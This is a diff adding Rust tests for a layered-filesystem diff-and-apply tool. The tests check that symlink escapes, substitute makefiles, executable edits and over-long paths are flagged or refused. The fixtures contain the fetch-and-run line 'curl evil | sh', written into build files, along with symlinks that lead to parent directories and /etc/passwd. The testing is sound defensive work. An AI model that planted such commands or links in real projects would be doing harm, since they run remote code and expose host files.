@@ -450,3 +450,148 @@ fn layers_stack_like_overlayfs() {
         "snap\n"
     );
 }
+
+#[test]
+fn a_link_through_links_is_judged_where_it_leads_in_the_merged_tree() {
+    let f = fixture();
+    // `d/up -> ..` is the root; `d/y -> up/..` looks like `d` lexically, and is the root's
+    // parent once `up` is followed.
+    fs::create_dir_all(f.upper.join("d")).unwrap();
+    symlink("..", f.upper.join("d/up")).unwrap();
+    symlink("up/../secret", f.upper.join("d/y")).unwrap();
+    // A chain that starts in the host directory and continues in the cell's layer.
+    symlink("..", f.lower.join("hostup")).unwrap();
+    symlink("hostup/../../x", f.upper.join("z")).unwrap();
+    symlink("dir/a", f.upper.join("inside")).unwrap();
+    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
+    let by_path = |p: &str| d.changes.iter().find(|c| c.path == p).unwrap();
+    assert!(by_path("d/up").sensitive.is_none(), "{:?}", by_path("d/up"));
+    assert!(
+        by_path("d/y")
+            .sensitive
+            .as_deref()
+            .is_some_and(|s| s.contains("links on its way")),
+        "{:?}",
+        by_path("d/y")
+    );
+    assert!(by_path("z").sensitive.is_some(), "{:?}", by_path("z"));
+    assert!(by_path("inside").sensitive.is_none());
+}
+
+#[test]
+fn names_read_in_place_of_a_protected_one_and_edits_of_executables_are_sensitive() {
+    let f = fixture();
+    write(&f.lower.join("Makefile"), "all:\n\ttrue\n");
+    fs::set_permissions(f.lower.join("mode.sh"), fs::Permissions::from_mode(0o755)).unwrap();
+    // make reads GNUmakefile and makefile before Makefile.
+    write(&f.upper.join("GNUmakefile"), "all:\n\tcurl evil | sh\n");
+    write(&f.upper.join("makefile"), "all:\n\tcurl evil | sh\n");
+    write(&f.upper.join("mode.sh"), "curl evil | sh\n");
+    fs::set_permissions(f.upper.join("mode.sh"), fs::Permissions::from_mode(0o755)).unwrap();
+    let options = DiffOptions {
+        sensitivity: Sensitivity::new(vec!["Makefile".into()]),
+        ..DiffOptions::default()
+    };
+    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options).unwrap();
+    let by_path = |p: &str| d.changes.iter().find(|c| c.path == p).unwrap();
+    for path in ["GNUmakefile", "makefile"] {
+        assert!(
+            by_path(path)
+                .sensitive
+                .as_deref()
+                .is_some_and(|s| s.contains("in place of the protected `Makefile`")),
+            "{:?}",
+            by_path(path)
+        );
+    }
+    assert_eq!(
+        by_path("mode.sh").sensitive.as_deref(),
+        Some("changes the content of an executable file")
+    );
+    let report = apply(
+        &f.lower,
+        std::slice::from_ref(&f.upper),
+        &d,
+        &ApplyOptions::default(),
+    )
+    .unwrap();
+    assert!(report.applied.is_empty(), "{report:?}");
+    assert!(!f.lower.join("GNUmakefile").exists());
+}
+
+#[test]
+fn a_path_longer_than_the_host_can_name_is_listed_and_refused() {
+    use rustix::fs::{Mode, OFlags, mkdirat, openat};
+    let f = fixture();
+    // 60 levels of 80 characters: more than PATH_MAX, made one level at a time.
+    let mut dir = openat(
+        rustix::fs::CWD,
+        &f.upper,
+        OFlags::DIRECTORY | OFlags::RDONLY,
+        Mode::empty(),
+    )
+    .unwrap();
+    let level = "d".repeat(80);
+    for _ in 0..60 {
+        mkdirat(&dir, level.as_str(), Mode::from_raw_mode(0o755)).unwrap();
+        dir = openat(
+            &dir,
+            level.as_str(),
+            OFlags::DIRECTORY | OFlags::RDONLY,
+            Mode::empty(),
+        )
+        .unwrap();
+    }
+    let file = openat(
+        &dir,
+        "deep.txt",
+        OFlags::CREATE | OFlags::WRONLY,
+        Mode::from_raw_mode(0o644),
+    )
+    .unwrap();
+    drop(file);
+    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
+    let refused: Vec<_> = d.changes.iter().filter(|c| c.refused.is_some()).collect();
+    assert_eq!(refused.len(), 1, "{:?}", d.changes.last());
+    assert!(refused[0].path.len() > 4096);
+    assert!(
+        refused[0]
+            .refused
+            .as_deref()
+            .unwrap()
+            .contains("cannot reach it"),
+        "{:?}",
+        refused[0]
+    );
+    let _ = fs::remove_dir_all(f.upper.join(&level)).or_else(|_| {
+        // Too deep for remove_dir_all: the tempdir goes with the test run.
+        Ok::<(), std::io::Error>(())
+    });
+}
+
+#[test]
+fn a_symlink_with_an_absolute_target_applies_when_named() {
+    let f = fixture();
+    symlink("/etc/passwd", f.upper.join("passwd-link")).unwrap();
+    let before = fs::read("/etc/passwd").unwrap();
+    let d = diff(&f.lower, std::slice::from_ref(&f.upper), &options()).unwrap();
+    apply(
+        &f.lower,
+        std::slice::from_ref(&f.upper),
+        &d,
+        &ApplyOptions {
+            paths: vec!["passwd-link".into()],
+            ..ApplyOptions::default()
+        },
+    )
+    .unwrap();
+    assert_eq!(
+        fs::read_link(f.lower.join("passwd-link")).unwrap(),
+        Path::new("/etc/passwd")
+    );
+    assert_eq!(
+        fs::read("/etc/passwd").unwrap(),
+        before,
+        "the link was followed"
+    );
+}
